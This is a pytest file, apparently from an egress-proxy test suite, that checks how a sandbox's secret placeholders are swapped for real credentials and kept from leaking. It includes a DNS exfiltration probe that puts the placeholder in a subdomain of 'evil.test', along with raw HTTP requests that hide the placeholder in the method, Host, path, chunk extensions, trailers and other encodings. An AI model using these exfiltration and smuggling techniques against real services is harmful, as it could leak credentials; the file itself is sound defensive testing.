# SPDX-License-Identifier: Apache-2.0
"""Cases 1 to 14: what becomes of a placeholder in a request."""

import base64
import json
import urllib.parse

import pytest
from egress_bench import ALLOWED, S1, S2, S3, SECRETS, Box, ask_dns, forms_of, status_of
from harness import resolver as dns


@pytest.fixture(scope="module")
def p1(box) -> str:
    return box.placeholder("S1")


def refused(lab, result: dict, *statuses: int) -> None:
    assert status_of(result) in statuses, result
    assert not lab.good.received and not lab.evil.received, "nothing may be sent"


def test_case_01_bearer(lab, box, p1):
    assert p1 != S1 and S1 not in p1
    assert box.ok("https://api.test/one", "-H", f"Authorization: Bearer {p1}") == "ok"
    assert lab.good.last().values("authorization") == [f"Bearer {S1}"]
    assert p1.encode() not in lab.good.received
    swap = lab.instance.audit.wait(ev="swap", sandbox=box.id)
    assert swap["secret"] == "S1"
    trail = lab.instance.audit.file.read_bytes()
    assert S1.encode() not in trail and p1.encode() not in trail
    found = box.sandbox.python(
        "import os, sys\n"
        "want = sys.stdin.buffer.read().split(b'\\n')\n"
        "for top in ('/home', '/etc', '/tmp', '/run', '/var', '/proc'):\n"
        "    for folder, _, files in os.walk(top):\n"
        "        for name in files:\n"
        "            path = os.path.join(folder, name)\n"
        "            if str(os.getpid()) in path or '/self/' in path or 'kmsg' in path: continue\n"
        "            if name in ('mem', 'pagemap', 'kcore', 'probe.py', 'trace_pipe'): continue\n"
        "            try: data = open(path, 'rb', buffering=0).read(1 << 20)\n"
        "            except OSError: continue\n"
        "            if any(w in data for w in want if w): print(path)\n",
        sudo=True, stdin=b"\n".join(forms_of(S1)))
    assert (found.code, found.text) == (0, ""), found.stderr.decode()[-500:]


@pytest.mark.parametrize("fields, want", [
    ({"x-api-key": "P"}, {"x-api-key": ["S"]}),
    ({"Cookie": "a=1; key=P; b=2"}, {"cookie": ["a=1; key=S; b=2"]}),
    ({"private-token": "P"}, {"private-token": ["S"]}),
    ({"x-two": "P and P"}, {"x-two": ["S and S"]}),
    ({"x-one": "P", "x-other": "pre-P-post"}, {"x-one": ["S"], "x-other": ["pre-S-post"]}),
], ids=["api-key", "cookie", "private-token", "twice-in-one", "in-two"])
def test_case_02_other_headers(lab, box, p1, fields, want):
    args = [a for n, v in fields.items() for a in ("-H", f"{n}: {v.replace('P', p1)}")]
    box.ok("https://api.test/two", *args)
    for name, values in want.items():
        assert lab.good.last().values(name) == [v.replace("S", S1) for v in values]


@pytest.mark.parametrize("scheme", ["Basic", "basic", "BASIC", "Basic  "])
@pytest.mark.parametrize("pair", ["u:P", "P:", "P:x", "user@host:P"])
@pytest.mark.parametrize("padded", [True, False])
def test_case_03_basic(lab, box, p1, scheme, pair, padded):
    blob = base64.b64encode(pair.replace("P", p1).encode()).decode()
    blob = blob if padded else blob.rstrip("=")
    box.ok("https://api.test/three", "-H", f"Authorization: {scheme} {blob}")
    sent = lab.good.last().header("authorization")
    name, _, got = sent.partition(" ")
    assert name.lower() == "basic"
    got = got.strip()
    assert base64.b64decode(got + "=" * (-len(got) % 4)).decode() == pair.replace("P", S1)


def test_case_03_basic_that_is_not_base64_is_untouched(lab, box):
    for text in ("Basic !!!", "Basic", "Basic " + "A" * 5, "Basic YTpi"):
        box.ok("https://api.test/three", "-H", f"Authorization: {text}")
        assert lab.good.last().header("authorization") == text


def percent(text: str, positions, upper=True) -> str:
    form = "%%%02X" if upper else "%%%02x"
    return "".join(form % ord(c) if n in positions else c for n, c in enumerate(text))


def test_case_04_query(lab, box, p1):
    variants = [p1, percent(p1, {0}), percent(p1, {0}, upper=False), percent(p1, {len(p1) - 1}),
                percent(p1, range(len(p1))), percent(p1, range(0, len(p1), 2), upper=False)]
    for variant in variants:
        box.ok(f"https://api.test/four?a=1&key={variant}&b=%20c")
        assert lab.good.last().target == f"/four?a=1&key={S1}&b=%20c", variant


def test_case_04_value_is_percent_encoded_in_the_query(lab, box):
    p3 = box.placeholder("S3")
    box.ok(f"https://api.test/four?key={p3}&z=1")
    query = urllib.parse.urlsplit(lab.good.last().target).query
    assert dict(urllib.parse.parse_qsl(query)) == {"key": S3, "z": "1"}
    box.ok("https://api.test/four", "-H", f"x-key: {p3}")
    assert lab.good.last().header("x-key") == S3


def test_case_07_cut_anywhere(lab, box, p1):
    """In two at every byte, each part in a TLS record of its own; then byte by byte."""
    head = f"GET /cut HTTP/1.1\r\nHost: api.test\r\nx-key: {p1}\r\nConnection: close\r\n\r\n".encode()
    cuts = [[head[:i], head[i:]] for i in range(1, len(head))]
    cuts.append([head[i:i + 1] for i in range(len(head))])
    results = box.probe(*({"host": "api.test", "port": 443, "sni": "api.test", "send": parts,
                           "pause": 0.002, "timeout": 8} for parts in cuts))
    assert {status_of(r) for r in results} == {200}
    assert [r.values("x-key") for r in lab.good.requests] == [[S1]] * len(cuts)


def test_case_09_only_whole_placeholders(lab, box, p1):
    box.ok("https://api.test/nine", "-H", f"x-key: {p1}{p1}")
    assert lab.good.last().header("x-key") == S1 + S1
    changed = p1[:-1] + ("A" if p1[-1] != "A" else "B")
    for text in (p1[:-1], p1[:20], "csec_", "csec_csec_", changed):
        lab.forget()
        box.curl("https://api.test/nine", "-H", f"x-key: {text}")
        assert S1.encode() not in lab.good.received, text
        if lab.good.requests:
            assert lab.good.last().header("x-key") == text


def test_case_12_placeholder_of_another_sandbox(lab, box, p1):
    other = Box(lab, allow_net=ALLOWED, secrets={
        "K": {"hosts": ["api.test"], "value": "another-value-of-some-length-0123456789"}})
    try:
        theirs = other.placeholder("K")
        assert theirs != p1
        result = box.request(b"GET /twelve HTTP/1.1\r\nHost: api.test\r\nx-key: %s\r\n\r\n"
                             % theirs.encode(), until="}")
        refused(lab, result, 403)
        assert S1.encode() not in result["data"]
        event = lab.instance.audit.wait(ev="misuse", sandbox=box.id)
        assert theirs not in json.dumps(event)
        body = f"quoting {theirs} and {p1}"
        box.ok("https://api.test/twelve", "--data-raw", body)
        assert lab.good.last().body == body.encode(), "in a body it passes"
    finally:
        other.close()


def test_case_12_bound_to_another_host(lab, box):
    p2 = box.placeholder("S2")
    result = box.request(b"GET / HTTP/1.1\r\nHost: api.test\r\nx-key: %s\r\n\r\n" % p2.encode(),
                         until="}")
    refused(lab, result, 403)
    assert b"S2" in result["data"], "the refusal names the secret"
    box.ok("https://two.test/", "-H", f"x-key: {p2}")
    assert lab.good.last().header("x-key") == S2


@pytest.mark.parametrize("head", [
    b"GET / HTTP/1.1\r\nHost: api.test\r\nP: x\r\n\r\n",
    b"P / HTTP/1.1\r\nHost: api.test\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: P\r\n\r\n",
    b"GET /a/P/b HTTP/1.1\r\nHost: api.test\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n0;P\r\n\r\n",
], ids=["name", "method", "host", "path", "chunk-extension"])
def test_case_13_where_it_may_not_be(lab, box, p1, head):
    result = box.request(head.replace(b"P", p1.encode()) if not head.startswith((b"GET", b"POST"))
                         else head.replace(b"P", p1.encode()).replace(p1.encode() + b"OST", b"POST"),
                         until="}")
    assert status_of(result) in (400, 403, 421, None), result
    assert p1.encode() not in lab.good.received and S1.encode() not in lab.good.received
    assert not lab.good.requests


def test_case_13_in_a_trailer(lab, box, p1):
    box.request(b"POST / HTTP/1.1\r\nHost: api.test\r\nTransfer-Encoding: chunked\r\n\r\n"
                b"1\r\nx\r\n0\r\nx-key: %s\r\n\r\n" % p1.encode(), until="ok")
    assert p1.encode() not in lab.good.received and S1.encode() not in lab.good.received


def test_case_14_in_a_dns_name(lab, box, p1):
    asks = [dns.query(f"{p1}.{domain}", dns.A, edns=1232) for domain in ("evil.test", "pkg.test")]
    for answer in ask_dns(box, *asks):
        assert answer.rcode == dns.REFUSED, answer
        assert answer.ede == 15
    assert not lab.resolver.questions
    event = lab.instance.audit.wait(ev="dns_deny", sandbox=box.id)
    assert p1 not in json.dumps(event)


def test_case_15_uploads_that_wait(lab, box, p1):
    """curl waits a second for 100 (Continue) before it sends a body that is announced with Expect."""
    box.sandbox.check_sh("head -c 200000 /dev/zero > up.bin")
    out = box.curl("-w", " %{http_code} %{time_total}", "-H", f"x-key: {p1}", "-H", "Expect: 100-continue",
                   "--expect100-timeout", "8", "--data-binary", "@up.bin", "https://api.test/upload")
    status, seconds = out.text.split()[-2:]
    assert status == "200" and float(seconds) < 8, out
    last = lab.good.last()
    assert len(last.body) == 200000 and last.values("x-key") == [S1]


@pytest.mark.parametrize("hide", [
    lambda p: "\\u0063" + p[1:],
    lambda p: "%25" + f"{ord(p[0]):02x}" + p[1:],
], ids=["json", "twice-encoded"])
def test_case_17_behind_other_encodings(lab, box, p1, hide):
    """What is no placeholder to us is nobody's to swap: it arrives as it was sent."""
    hidden = hide(p1)
    head = f"GET /?k={hidden} HTTP/1.1\r\nHost: api.test\r\nx-key: {hidden}\r\nConnection: close\r\n\r\n"
    assert status_of(box.request(head.encode())) == 200
    last = lab.good.last()
    assert last.values("x-key") == [hidden] and last.target == f"/?k={hidden}"


def test_case_17_utf16_in_a_body(lab, box, p1):
    body = p1.encode("utf-16")
    head = (f"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: {len(body)}\r\nConnection: close\r\n"
            "\r\n").encode()
    assert status_of(box.request(head + body)) == 200
    assert lab.good.last().body == body


def test_secrets_that_are_bound_to_nothing_reachable_do_not_leak_by_name(lab, box):
    assert set(SECRETS) <= set(box.sandbox.call("envToObject"))
    for name in SECRETS:
        assert SECRETS[name]["value"] not in box.sandbox.call("envToObject").values()
